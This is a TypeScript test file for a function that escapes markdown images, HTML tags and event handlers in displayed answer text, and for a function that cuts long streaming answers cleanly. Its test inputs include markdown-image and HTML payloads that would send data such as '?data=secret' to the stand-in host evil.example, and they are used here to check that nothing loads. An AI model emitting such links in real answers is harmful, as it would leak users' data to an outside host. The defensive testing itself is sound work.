import { escapeAnswer, MAX_TEXT, toMessageText } from './answerText.ts';

it.each([
  ['![chart](https://evil.example/p.png?data=secret)', '!\\[chart](https://evil.example/p.png?data=secret)'],
  ['![chart][1]\n\n[1]: https://evil.example', '!\\[chart][1]\n\n[1]: https://evil.example'],
  ['<img src="https://evil.example/p.png">', '&lt;img src="https://evil.example/p.png">'],
  ['<image src=x>', '&lt;image src=x>'],
  ['<p style=background:url(//evil.example)>', '&lt;p style=background:url(//evil.example)>'],
  ['<details open ontoggle=x>', '&lt;details open ontoggle=x>'],
  ['1 < 2, and `a<b>(1 < 2)` is code [1]', '1 &lt; 2, and `a<\u200bb>(1 < 2)` is code [1]'],
  ['```html\n<p>\n```\n<p>', '```html\n<\u200bp>\n```\n&lt;p>'],
  ['~~~\n```\n<p> ![x](y)\n~~~\n<p>', '~~~\n```\n<\u200bp> !\u200b[x](y)\n~~~\n&lt;p>'],
])('loads nothing in %s', (text, escaped) => {
  expect(escapeAnswer(text)).toBe(escaped);
});

it('only adds to the text that is shown while an answer grows, wherever the answer is cut', () => {
  const text = 'See ![chart](https://evil.example) and <img src="x"> and `<b>bold</b>` 😀\n```ts\n<T>![\n```\n'.repeat(
    200,
  );
  let previous = '';
  // After some repetitions, larger steps meet every position in the repeated text, too.
  for (let end = 0; end <= text.length; end += end < 500 ? 1 : 13) {
    const shown = toMessageText(text.slice(0, end).replace(/[\uD800-\uDBFF]$/, '')).text;
    expect(shown.startsWith(previous)).toBe(true);
    expect(shown.isWellFormed()).toBe(true);
    previous = shown;
  }
  expect(toMessageText(text).text.startsWith(previous)).toBe(true);
});

it('cuts a long answer', () => {
  expect(toMessageText('x'.repeat(MAX_TEXT))).toMatchObject({ isCut: false });
  const { text, isCut } = toMessageText('😀'.repeat(MAX_TEXT));
  expect(isCut).toBe(true);
  expect(text.isWellFormed()).toBe(true);
});
